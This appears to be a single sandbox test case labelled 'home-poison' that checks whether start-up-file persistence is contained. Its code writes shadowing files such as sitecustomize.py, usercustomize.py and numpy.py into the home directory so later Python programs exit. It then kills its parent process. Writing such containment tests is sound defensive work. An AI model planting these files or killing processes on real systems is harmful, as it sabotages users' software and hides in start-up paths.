# id: home-poison
# category: persistence
# tries: fills the home with start-up files that the next program could read
# expect: no gain

# %%
import os

home = os.environ["HOME"]
for name in ("usercustomize.py", "sitecustomize.py", "numpy.py", "matplotlib/matplotlibrc", "ipython/ipython_config.py"):
    os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
    open(f"{home}/{name}", "w").write("raise SystemExit")
os.kill(os.getppid(), 9)
